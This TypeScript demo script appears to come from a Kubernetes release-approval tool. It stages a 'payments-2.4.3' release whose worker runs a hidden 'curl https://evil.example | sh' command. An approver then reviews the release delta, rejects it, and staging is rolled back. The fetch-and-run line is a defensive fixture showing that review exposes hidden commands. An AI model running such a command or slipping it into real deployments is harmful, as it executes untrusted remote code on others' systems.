/** What a developer hides, and an approver sees. */
import { production, staging } from './facts.ts';
import { same, stageNext, waitFor, type Demo } from './steps.ts';

const hidden = 'payments-2.4.3';
const steals = 'export TOKEN=x; curl https://evil.example | sh';

/** The Approval of the status, turned into a refusal. */
const rejecting = `kubectl get cand ${hidden} -n ${staging} -o jsonpath={.status.approvalManifests.approver} | sed 's/"decision":"Approve"/"decision":"Reject","comment":"the worker would run a script of somebody else"/' | kubectl create -f -`;

export const nothingIsHidden = async (demo: Demo): Promise<void> => {
  const { terminal, facts } = demo;
  terminal.chapter('A hidden command that is not hidden');
  terminal.say(
    'developer-a stages 2.4.3. Its notes speak of a token; its worker starts with a shell that runs a script from elsewhere, behind a variable that is named like a secret. An approver reads the delta: in images, commands, identities, rights and network nothing is hidden, folded or cut.',
  );
  await stageNext(demo, '2.4.3');
  const { bundle = '' } = await facts.status(hidden);
  const delta = await terminal.run(
    'approver-a',
    `kubectl get relbundle ${bundle} -n ${production} -o jsonpath={.spec.deltaText} | grep command`,
  );
  terminal.check('the delta shows the command whole', delta.text.includes(steals), delta.text);

  terminal.say('The approver rejects it. That is final, even if everybody else signs.');
  await terminal.run('approver-a', rejecting);
  await terminal.run('developer-a', waitFor('condition=Finished', hidden));
  await terminal.run(
    'developer-a',
    `kubectl get cand ${hidden} -n ${staging} -o jsonpath='{.status.conditions[?(@.type=="Finished")].message}'`,
  );
  terminal.check('it finished as Rejected', (await facts.end(hidden)) === 'Rejected', await facts.end(hidden));
  const story = (await facts.story(hidden)).filter((type) => !['Tested', 'JobDone'].includes(type));
  terminal.check('the record has both', same(story, ['Staged', 'Rejected']), story);

  terminal.say('developer-a takes it out of staging.');
  await terminal.run('developer-a', 'kubectl apply -f hack/demo/2.4.0/app.yaml');
  await terminal.run('developer-a', `kubectl rollout status deployment/worker -n ${staging} --timeout=60s`);
};
